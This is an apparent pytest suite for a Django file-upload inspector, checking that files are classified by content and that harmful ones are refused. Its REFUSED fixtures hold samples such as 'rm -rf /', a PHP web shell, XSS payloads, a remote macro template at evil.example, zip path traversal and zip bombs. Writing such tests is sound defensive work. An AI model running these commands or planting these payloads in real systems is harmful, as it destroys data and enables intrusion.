"""What is taken and what is refused, by contents and never by name."""

import io
import time
import zipfile

import pytest
from django.utils import translation

from networks.library.archives import MAX_ENTRIES
from networks.library.enums import MEDIA_TYPES, FileKind, FileRefused, Refusal
from networks.library.inspection import MAX_FILE_BYTES, inspect
from networks.library.metadata import write_without_metadata
from tests.networks.library import samples

TAKEN = [
    ("report.pdf", samples.pdf, FileKind.PDF),
    ("photo.jpeg", samples.jpeg, FileKind.JPEG),
    ("photo.jpg", lambda: samples.jpeg(progressive=True), FileKind.JPEG),
    ("plan.png", samples.png, FileKind.PNG),
    ("plan.webp", samples.webp, FileKind.WEBP),
    ("plan.gif", samples.gif, FileKind.GIF),
    ("list.xlsx", samples.xlsx, FileKind.XLSX),
    ("text.docx", samples.docx, FileKind.DOCX),
    ("text.odt", samples.odt, FileKind.ODT),
    ("film.mp4", samples.mp4, FileKind.MP4),
    ("pack.zip", lambda: samples.zipped({"a.txt": b"a", "b/list.xlsx": samples.xlsx()}), FileKind.ZIP),
    ("notes.txt", lambda: "Grüße, ħello".encode(), FileKind.TXT),
    ("notes.md", lambda: b"# Title\n\n<b>text</b>", FileKind.MD),
    ("list.csv", lambda: "země;počet\n".encode("cp1250"), FileKind.CSV),
    ("wide.csv", lambda: "a;b\nż;ó\n".encode("utf-16"), FileKind.CSV),
    ("report.docx", samples.pdf, FileKind.PDF),
    ("plan.exe", samples.png, FileKind.PNG),
]

REFUSED = [
    ("empty.pdf", lambda: b"", Refusal.EMPTY),
    ("big.pdf", lambda: b"%PDF-1.7\n" + b"\x00" * MAX_FILE_BYTES, Refusal.TOO_LARGE),
    ("report.pdf", lambda: b"MZ\x90\x00" + b"\x00" * 200, Refusal.PROGRAM),
    ("report.txt", lambda: b"MZ this is read as a program", Refusal.PROGRAM),
    ("photo.jpg", lambda: b"\x7fELF\x02\x01" + b"\x00" * 200, Refusal.PROGRAM),
    ("notes.txt", lambda: b"#!/bin/sh\nrm -rf /\n", Refusal.PROGRAM),
    ("notes.txt", lambda: b"<?php system($_GET[0]); ?>", Refusal.PROGRAM),
    ("notes.txt", lambda: b"@echo off\r\ndel *", Refusal.SCRIPT),
    ("run.ps1", lambda: b"Get-Process", Refusal.SCRIPT),
    ("run.js", lambda: b"alert(1)", Refusal.SCRIPT),
    ("page.html", lambda: b"<!doctype html><p>x", Refusal.WEB_PAGE),
    ("notes.txt", lambda: b"\xef\xbb\xbf  <!-- x --><HTML><script>alert(1)</script>", Refusal.WEB_PAGE),
    ("wide.txt", lambda: "<html><script>alert(1)</script>".encode("utf-16"), Refusal.WEB_PAGE),
    ("drawing.png", lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', Refusal.WEB_PAGE),
    ("drawing.svg", lambda: b'<?xml version="1.0"?><svg/>', Refusal.WEB_PAGE),
    ("data.xml", lambda: b"<?xml version='1.0'?><a/>", Refusal.WEB_PAGE),
    ("text.docx", lambda: samples.docx(word__vbaProject_dot_bin=b"x"), Refusal.MACROS),
    ("text.docx", lambda: samples.docx(word__activeX__a_dot_xml=b"x"), Refusal.MACROS),
    ("text.odt", lambda: samples.odt(Basic__script=b"x"), Refusal.MACROS),
    (
        "list.xlsm",
        lambda: samples.zipped({"[Content_Types].xml": b"sheet.macroEnabled.main+xml"}),
        Refusal.MACROS,
    ),
    (
        "text.docx",
        lambda: samples.docx(
            word___rels__settings_dot_xml_dot_rels=b'<Relationship Type="x/attachedTemplate" '
            b'Target="https://evil.example/t.dotm" TargetMode="External"/>'
        ),
        Refusal.MACROS,
    ),
    ("old.doc", lambda: samples.OLE + "WordDocument".encode("utf-16-le"), Refusal.OLD_OFFICE),
    ("locked.docx", lambda: samples.OLE + "EncryptedPackage".encode("utf-16-le"), Refusal.ENCRYPTED),
    ("setup.doc", lambda: samples.OLE + b"\x00" * 100, Refusal.PROGRAM),
    ("locked.pdf", samples.locked_pdf, Refusal.ENCRYPTED),
    ("locked.zip", samples.locked_zip, Refusal.ENCRYPTED),
    ("scripted.pdf", samples.scripted_pdf, Refusal.SCRIPT),
    ("carrier.pdf", samples.pdf_with_file, Refusal.CARRIES_FILES),
    ("pack.zip", lambda: samples.zipped({"a.exe": b"x"}), Refusal.PROGRAM),
    ("pack.zip", lambda: samples.zipped({"picture.png": b"MZ\x90"}), Refusal.PROGRAM),
    ("pack.zip", lambda: samples.zipped({"in.zip": samples.zipped({"x.bat": b"x"})}), Refusal.PROGRAM),
    ("pack.zip", lambda: samples.zipped({"../up.txt": b"x"}), Refusal.UNSAFE_ARCHIVE),
    ("pack.zip", lambda: samples.zipped({"/etc/x": b"x"}), Refusal.UNSAFE_ARCHIVE),
    ("pack.zip", samples.overlapping_zip, Refusal.UNSAFE_ARCHIVE),
    ("bomb.zip", samples.bomb_of_zeros, Refusal.UNPACKS_TOO_LARGE),
    ("bomb.docx", lambda: samples.docx(word__zeros=b"\x00" * 220 * 1024 * 1024), Refusal.UNPACKS_TOO_LARGE),
    (
        "many.zip",
        lambda: samples.zipped({f"{n}": b"" for n in range(MAX_ENTRIES + 1)}),
        Refusal.UNPACKS_TOO_LARGE,
    ),
    ("nest.zip", lambda: samples.nested_zip(5), Refusal.UNPACKS_TOO_LARGE),
    ("cut.zip", lambda: samples.zipped({"a": b"x" * 999})[:-30], Refusal.DAMAGED),
    ("huge.png", samples.huge_png, Refusal.IMAGE_TOO_LARGE),
    ("cut.png", lambda: samples.png()[:200], Refusal.DAMAGED),
    ("cut.jpg", lambda: samples.jpeg()[:900], Refusal.DAMAGED),
    ("false.jpg", lambda: b"\xff\xd8\xff\xe0" + b"nothing" * 50, Refusal.DAMAGED),
    ("false.pdf", lambda: b"%PDF-1.7\n" + b"nothing" * 50, Refusal.DAMAGED),
    ("x.bin", lambda: bytes(range(256)), Refusal.UNKNOWN),
    ("x.7z", lambda: b"7z\xbc\xaf\x27\x1c" + b"\x00" * 60, Refusal.UNKNOWN),
    ("x.heic", lambda: b"\x00\x00\x00\x18ftypheic" + b"\x00" * 60, Refusal.UNKNOWN),
    ("x.log", lambda: b"plain text under another name", Refusal.UNKNOWN),
]


def _take(contents: bytes, name: str) -> FileKind:
    """Both looks a file gets before it is kept."""
    source = io.BytesIO(contents)
    kind = inspect(source, name)
    write_without_metadata(source, kind, io.BytesIO())
    return kind


@pytest.mark.parametrize(("name", "make", "kind"), TAKEN)
def test_what_people_work_with_is_taken_for_what_it_is(name, make, kind) -> None:
    assert _take(make(), name) == kind
    assert MEDIA_TYPES[kind]


@pytest.mark.parametrize(("name", "make", "refusal"), REFUSED)
def test_what_could_harm_is_refused_with_its_reason(name, make, refusal) -> None:
    contents = make()
    start = time.process_time()
    with pytest.raises(FileRefused) as caught:
        _take(contents, name)
    assert caught.value.refusal == refusal
    assert time.process_time() - start < 5


@pytest.mark.parametrize("refusal", list(Refusal))
def test_every_refusal_is_a_sentence(refusal) -> None:
    with translation.override("en"):
        assert str(FileRefused(refusal)).endswith(".")


def test_every_mebibyte_short_of_the_limit_is_taken() -> None:
    assert inspect(io.BytesIO(b"a" * MAX_FILE_BYTES), "a.txt") == FileKind.TXT


def test_a_forged_size_in_an_archive_does_not_get_past_the_limit() -> None:
    data = bytearray(samples.zipped({"a.txt": b"\x00" * 3_000_000}))
    directory = data.rfind(b"PK\x01\x02")
    data[directory + 24 : directory + 28] = (100).to_bytes(4, "little")
    with pytest.raises(FileRefused):
        _take(bytes(data), "a.zip")


@pytest.mark.parametrize(
    "make", [samples.pdf, samples.jpeg, samples.png, samples.gif, samples.webp, samples.docx, samples.mp4]
)
def test_damaged_files_are_refused_or_taken_but_never_fail(make) -> None:
    whole = make()
    for step in range(1, 60):
        cut = whole[: len(whole) * step // 60]
        flipped = bytearray(whole)
        flipped[len(whole) * step // 61] ^= 0xFF
        for contents in (cut, bytes(flipped)):
            try:
                _take(contents, "x")
            except FileRefused:
                continue


def test_archives_keep_their_contents() -> None:
    target = io.BytesIO()
    source = samples.zipped({"a.txt": b"a"})
    write_without_metadata(io.BytesIO(source), FileKind.ZIP, target)
    assert zipfile.ZipFile(target).read("a.txt") == b"a"
